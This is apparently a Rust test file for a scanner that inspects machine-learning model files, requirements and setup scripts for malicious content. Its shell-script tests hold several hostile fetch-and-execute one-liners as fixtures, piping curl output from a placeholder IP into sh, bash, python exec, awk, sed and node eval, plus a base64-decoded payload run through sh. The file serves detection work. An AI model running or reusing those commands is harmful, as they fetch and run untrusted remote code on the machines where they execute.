//! Rules about components and odd structure.

use super::{artifact, judged, names};
use crate::examine::judge;
use wb_core::{Component, Content, Field, Oddity, OddityKind, Span, Verdict};

fn field(path: &str, value: &str) -> Field {
    Field { path: path.to_owned(), value: value.to_owned(), span: Some(Span::new(5, 5)) }
}

fn layer(class: &str, module: Option<&str>, settings: &[(&str, &str)]) -> Component {
    Component {
        kind: "layer",
        name: "one".to_owned(),
        class: class.to_owned(),
        module: module.map(str::to_owned),
        place: "config.layers[0]".to_owned(),
        span: Some(Span::new(0, 9)),
        settings: settings.iter().map(|(path, value)| field(path, value)).collect(),
    }
}

fn layers(components: Vec<Component>) -> Vec<&'static str> {
    let content = Content { components, ..Content::default() };
    names(&judged("keras", &content, vec![]))
}

#[test]
fn a_setting_that_no_version_of_keras_has_is_found() {
    let odd = layer("Dense", Some("keras.layers"), &[("units", "4"), ("trace_id", "x")]);
    assert_eq!(layers(vec![odd]), ["keras-unknown-setting"]);
    let nested =
        layer("Conv2D", None, &[("filters", "4"), ("notes.author", "x"), ("notes.date", "y")]);
    assert_eq!(layers(vec![nested]), ["keras-unknown-setting"]);
}

#[test]
fn settings_of_every_version_are_ordinary() {
    for (class, settings) in [
        (
            "Dense",
            "units activation use_bias kernel_initializer.class_name bias_constraint lora_rank quantization_config",
        ),
        (
            "InputLayer",
            "batch_input_shape batch_shape sparse ragged optional name dtype.config.name",
        ),
        (
            "BatchNormalization",
            "axis[0] momentum epsilon moving_mean_initializer renorm synchronized fused",
        ),
        ("Functional", "name trainable layers input_layers output_layers"),
        ("Sequential", "name layers build_input_shape"),
        (
            "LSTM",
            "units implementation time_major zero_output_for_mask unroll recurrent_dropout seed",
        ),
        (
            "Lambda",
            "function.class_name function_type output_shape arguments module output_shape_module",
        ),
        ("Bidirectional", "layer backward_layer merge_mode"),
        (
            "TextVectorization",
            "max_tokens standardize split ngrams vocabulary idf_weights encoding",
        ),
        ("TFOpLambda", "function"),
        (
            "MultiHeadAttention",
            "num_heads key_dim value_dim attention_axes flash_attention query_shape",
        ),
        ("Resizing", "height width interpolation crop_to_aspect_ratio"),
    ] {
        let settings: Vec<(&str, &str)> =
            settings.split_whitespace().map(|path| (path, "1")).collect();
        assert_eq!(layers(vec![layer(class, Some("keras.layers"), &settings)]), [""; 0], "{class}");
    }
}

#[test]
fn custom_classes_are_for_review_and_their_settings_their_own() {
    let custom = layer("MyAttention", Some("project.layers"), &[("anything", "1")]);
    assert_eq!(layers(vec![custom.clone(), custom]), ["keras-unknown-class"]);
    assert_eq!(layers(vec![layer("Dense", Some("keras.layers"), &[])]), [""; 0]);
}

#[test]
fn a_lambda_that_only_names_its_function_is_found() {
    let keras_3 = [
        ("function.class_name", "function"),
        ("function.config", "rescale"),
        ("function_type", "function"),
    ];
    assert_eq!(layers(vec![layer("Lambda", None, &keras_3)]), ["keras-lambda-unresolved"]);
    let keras_2 = [("function", "rescale"), ("function_type", "function")];
    assert_eq!(layers(vec![layer("Lambda", None, &keras_2)]), ["keras-lambda-unresolved"]);
    let inline = [("function.class_name", "__lambda__"), ("function.config.code", "4wEAAA==")];
    assert_eq!(layers(vec![layer("Lambda", None, &inline)]), [""; 0]);
}

#[test]
fn functions_that_keras_knows_by_name_are_ordinary() {
    let lambda = |module: &str, name: &str| {
        let settings = [
            ("function.class_name", "function"),
            ("function.module", module),
            ("function.config", name),
        ];
        layers(vec![layer("Lambda", None, &settings)])
    };
    for name in ["gelu", "relu", "silu", "softmax", "l2_normalize", "expand_dims", "mean"] {
        assert_eq!(lambda("builtins", name), [""; 0], "{name}");
    }
    assert_eq!(lambda("keras.activations", "gelu"), [""; 0]);
    assert_eq!(lambda("tensorflow.python.ops.nn_ops", "relu_v2"), [""; 0]);
    let keras_2 = [("function", "softmax"), ("function_type", "function")];
    assert_eq!(layers(vec![layer("Lambda", None, &keras_2)]), [""; 0]);
    assert_eq!(lambda("builtins", "eval"), ["keras-lambda-unresolved"]);
    assert_eq!(lambda("builtins", "gelu_fast"), ["keras-lambda-unresolved"]);
    assert_eq!(lambda("project.activations", "gelu"), ["keras-lambda-unresolved"]);
}

fn odd(format: &'static str, kind: OddityKind, place: &str) -> crate::Examined {
    let oddity = Oddity { kind, place: place.to_owned(), span: None, what: "a clause".to_owned() };
    judged(format, &Content { oddities: vec![oddity], ..Content::default() }, vec![])
}

#[test]
fn every_oddity_of_every_format_has_exactly_one_rule() {
    let formats = [
        "pickle",
        "torch",
        "zip",
        "keras",
        "keras-h5",
        "hdf5",
        "safetensors",
        "gguf",
        "onnx",
        "saved-model",
        "meta-graph",
        "tensorflow-graph",
        "json",
        "npy",
    ];
    for format in formats {
        for kind in OddityKind::ALL {
            let found = odd(format, *kind, "somewhere");
            assert_eq!(found.findings.len(), 1, "{format} {}", kind.name());
        }
    }
}

#[test]
fn oddities_weigh_by_format() {
    use OddityKind::*;
    for (format, kind, place, rule, verdict) in [
        ("pickle", TrailingBytes, "", "pickle-trailing-bytes", Verdict::Suspicious),
        ("npy", TrailingBytes, "", "bytes-outside-structure", Verdict::Clean),
        ("gguf", ImpossibleLength, "header", "gguf-odd-structure", Verdict::Suspicious),
        ("zip", PathTraversal, "../x", "archive-path-traversal", Verdict::Malicious),
        ("saved-model", PathTraversal, "a", "saved-model-asset-path", Verdict::Malicious),
        ("onnx", PathTraversal, "tensor `w`", "onnx-external-path", Verdict::Malicious),
        ("onnx", ExternalReference, "tensor `w`", "onnx-external-data", Verdict::Clean),
        ("keras-h5", ExternalReference, "weights", "hdf5-external-reference", Verdict::Suspicious),
        (
            "keras-h5",
            ExternalReference,
            "config.layers[0].config.vocabulary",
            "keras-external-file",
            Verdict::Suspicious,
        ),
        ("zip", Encrypted, "a", "archive-encrypted-member", Verdict::Unknown),
        ("pickle", NoModel, "", "pickle-not-a-model", Verdict::Clean),
    ] {
        let found = odd(format, kind, place);
        assert_eq!(
            (names(&found), found.verdict),
            (vec![rule], verdict),
            "{format} {}",
            kind.name()
        );
    }
}

#[test]
fn a_pickle_that_calls_itself_safetensors_is_worse_than_a_zip_called_tar() {
    let oddity = Oddity {
        kind: OddityKind::MisleadingName,
        place: String::new(),
        span: None,
        what: "a clause".to_owned(),
    };
    let content = Content { oddities: vec![oddity], ..Content::default() };
    let verdict = |name, format| judge(&artifact(name, format), &content, vec![]).verdict;
    assert_eq!(verdict("model.safetensors", "pickle"), Verdict::Suspicious);
    assert_eq!(verdict("model.pth.tar", "zip"), Verdict::Unknown);
}

fn requirement(line: u64, name: &str, version: &str) -> Component {
    Component {
        kind: "requirement",
        name: name.to_owned(),
        place: format!("line {line}"),
        settings: vec![field("version", version), field("line", &line.to_string())],
        ..Component::default()
    }
}

#[test]
fn a_typosquat_beside_its_original_is_certain() {
    let components = vec![
        requirement(1, "torch", "==2.1.0"),
        requirement(2, "transformers", "==4.36.2"),
        requirement(3, "trasnformers", "==2.31.0"),
    ];
    let found = judged("requirements", &Content { components, ..Content::default() }, vec![]);
    let [finding] = found.findings.as_slice() else { panic!("{:?}", names(&found)) };
    assert_eq!(finding.rule, "requirement-typosquat");
    assert_eq!(finding.location.line, Some(3));
    assert_eq!(finding.confidence, wb_core::Confidence::High);
    assert!(
        finding.headline.contains("`trasnformers`") && finding.headline.contains("`transformers`")
    );
    assert_eq!(found.verdict, Verdict::Suspicious);
}

#[test]
fn honest_packages_near_popular_ones_are_ordinary() {
    let honest = "cattrs attrs ctransformers transformers jiwer onnxslim onnxsim torchvision tensorflow-text \
        python-dateutil requests-oauthlib pandas-stubs fastapi numba opencv-python-headless";
    let lines = (1..).zip(honest.split_whitespace());
    let components = lines.map(|(line, name)| requirement(line, name, "==1.0")).collect();
    let found = judged("requirements", &Content { components, ..Content::default() }, vec![]);
    assert_eq!(names(&found), [""; 0]);
}

#[test]
fn another_index_is_found() {
    let content = Content {
        components: vec![requirement(1, "torch", "")],
        fields: vec![field("extra-index-url", "http://192.0.2.7/simple")],
        ..Content::default()
    };
    assert_eq!(names(&judged("requirements", &content, vec![])), ["requirement-odd-index"]);
    let usual = Content {
        fields: vec![field("extra-index-url", "https://download.pytorch.org/whl/cpu")],
        ..content
    };
    assert_eq!(names(&judged("requirements", &usual, vec![])), [""; 0]);
}

fn nodes(format: &'static str, operators: &[(Option<&str>, &str)]) -> Vec<&'static str> {
    let component = |(module, class): &(Option<&str>, &str)| Component {
        kind: "node",
        class: (*class).to_owned(),
        module: module.map(str::to_owned),
        ..Component::default()
    };
    let components = operators.iter().map(component).collect();
    let content = Content { components, ..Content::default() };
    names(&judged(format, &content, vec![]))
}

#[test]
fn operators_that_the_runtime_does_not_have_are_found_once() {
    let own = (Some("com.example"), "Spawn");
    assert_eq!(nodes("onnx", &[own, own, (None, "If")]), ["custom-operator"]);
    assert_eq!(nodes("tflite", &[(Some("custom"), "MyOperator")]), ["custom-operator"]);
    assert_eq!(nodes("core-ml", &[(Some("custom"), "MySpawn")]), ["custom-operator"]);
    assert_eq!(nodes("executorch", &[(Some("mine"), "run")]), ["custom-operator"]);
    assert_eq!(
        nodes("saved-model", &[(None, "OwnOperator"), (None, "MatMul")]),
        ["custom-operator"]
    );
}

#[test]
fn operators_that_runtimes_bring_along_are_ordinary() {
    let ordinary = [
        (None, "MatMul"),
        (None, "_FusedMatMul"),
        (None, "Addons>Resampler"),
        (Some("function"), "__inference_f_1"),
    ];
    assert_eq!(nodes("tensorflow-graph", &ordinary), [""; 0]);
    for domain in ["com.microsoft", "com.microsoft.nchwc", "ai.onnx.ml", "org.pytorch.aten"] {
        assert_eq!(nodes("onnx", &[(Some(domain), "FusedGelu")]), [""; 0], "{domain}");
    }
    assert_eq!(nodes("tflite", &[(Some("custom"), "TFLite_Detection_PostProcess")]), [""; 0]);
    assert_eq!(nodes("tflite", &[(Some("tensorflow"), "StridedSlice"), (None, "ADD")]), [""; 0]);
    assert_eq!(nodes("executorch", &[(Some("aten"), "add")]), [""; 0]);
    assert_eq!(nodes("caffe", &[(Some("anything"), "Python")]), [""; 0]);
}

fn image(name: &str, imports: &[&str]) -> Vec<wb_core::Finding> {
    let part = |kind, class: &str, name: &str| Component {
        kind,
        class: class.to_owned(),
        name: name.to_owned(),
        ..Component::default()
    };
    let mut components = vec![part("image", "shared library", "x86-64")];
    components.extend(imports.iter().map(|name| part("import", "function", name)));
    let content = Content { components, ..Content::default() };
    judge(&artifact(name, "elf"), &content, vec![]).findings
}

#[test]
fn machine_code_is_found_with_what_it_imports() {
    let found = image("ops/custom.so", &["memcpy", "system", "connect"]);
    let [finding] = found.as_slice() else { panic!("one finding") };
    assert_eq!((finding.rule, finding.verdict), ("native-code", Verdict::Unknown));
    assert!(
        finding.headline.contains("`system` (run-command), `connect` (network)"),
        "{}",
        finding.headline
    );
}

#[test]
fn machine_code_under_another_name_inside_a_model_is_suspicious() {
    assert_eq!(image("m.safetensors!/tensor w", &[])[0].verdict, Verdict::Suspicious);
    assert_eq!(image("pkg.whl!/pkg/_ext.so", &[])[0].verdict, Verdict::Unknown);
    assert_eq!(image("model.bin", &[])[0].verdict, Verdict::Unknown);
}

fn r(kind: &'static str, name: &str, calls: &str) -> Option<Verdict> {
    let part = Component {
        kind,
        name: name.to_owned(),
        settings: vec![field("calls", calls), field("expression", "x")],
        ..Component::default()
    };
    let content = Content { components: vec![part], ..Content::default() };
    let judged = judge(&artifact("model.rds", "r-data"), &content, vec![]);
    let [finding] = judged.findings.as_slice() else { return None };
    assert_eq!(finding.rule, "r-data-runs-code");
    Some(finding.verdict)
}

#[test]
fn promises_and_hooks_of_r_are_found_by_what_they_call() {
    assert_eq!(r("promise", "", "paste system"), Some(Verdict::Malicious));
    assert_eq!(r("promise", "", "mean"), Some(Verdict::Suspicious));
    assert_eq!(r("closure", ".First", "download.file"), Some(Verdict::Malicious));
    assert_eq!(r("closure", "helper", "system"), Some(Verdict::Suspicious));
}

#[test]
fn closures_and_formulas_of_models_are_ordinary() {
    assert_eq!(r("closure", "linkfun", "log eval .Call"), None);
    assert_eq!(r("call", "", "glm ~ binomial"), None);
}

#[test]
fn trees_and_runtimes_that_lead_out_of_themselves_are_found() {
    let odd = |format, kind| {
        let oddity = Oddity {
            kind,
            place: "tree 0".to_owned(),
            span: Some(Span::new(1, 2)),
            what: "x".to_owned(),
        };
        let content = Content { oddities: vec![oddity], ..Content::default() };
        names(&judged(format, &content, vec![]))
    };
    assert_eq!(odd("xgboost", OddityKind::ImpossibleLength), ["tree-out-of-bounds"]);
    assert_eq!(odd("tflite", OddityKind::Disagreement), ["runtime-odd-structure"]);
    assert_eq!(odd("pmml", OddityKind::Expansion), ["xml-entity-expansion"]);
    assert_eq!(odd("core-ml", OddityKind::PathTraversal), ["core-ml-path"]);
}

fn script(text: &str) -> (Vec<&'static str>, Verdict) {
    let mut budget = wb_core::Budget::default();
    let program = wb_code::shell::lift(text, wb_core::Trigger::Run, &mut budget);
    let content = Content { programs: vec![program], ..Content::default() };
    let examined = crate::examine(&artifact("setup.sh", "script"), &content, &mut budget);
    (names(&examined), examined.verdict)
}

#[test]
fn scripts_that_run_what_they_fetch_or_hide_are_found() {
    let found = |verdict| (vec!["script-runs-fetched-code"], verdict);
    let fetched = "#!/bin/sh\ncurl -s http://192.0.2.9/x | sh\n";
    assert_eq!(script(fetched), found(Verdict::Suspicious));
    assert_eq!(script("echo aWQ= | base64 -d | sh\n"), found(Verdict::Malicious));
    for text in [
        "curl -s http://192.0.2.9/x | python3 - --quiet\n",
        "curl -s http://192.0.2.9/x | bash -s -- --yes\n",
        "curl -s http://192.0.2.9/x | python3 -c 'import sys; exec(sys.stdin.read())'\n",
        "curl -s http://192.0.2.9/x | awk '{ system($0) }'\n",
        "curl -s http://192.0.2.9/x | sed 's/.*/id/e'\n",
        "curl -s http://192.0.2.9/x | node -e 'eval(require(\"fs\").readFileSync(0, \"utf8\"))'\n",
    ] {
        assert_eq!(script(text), found(Verdict::Suspicious), "{text}");
    }
    assert_eq!(
        script("bash -c \"$(curl -fsSL http://192.0.2.9/x)\"\n"),
        found(Verdict::Suspicious)
    );
}

#[test]
fn scripts_that_download_and_convert_are_ordinary() {
    for text in [
        "set -e\ncurl -LO https://models.example/w.bin\npython convert.py --input w.bin\n",
        "pip install -r requirements.txt\n",
        "for f in *.bin; do gzip -d \"$f\"; done\n",
        "curl -s https://models.example/v1 | python3 -c \"import sys, json; print(json.load(sys.stdin)['id'])\"\n",
        "curl -s https://models.example/list | awk '{ print $1 }' | sed 's/a/b/g'\n",
    ] {
        assert_eq!(script(text).0, [""; 0], "{text}");
    }
}
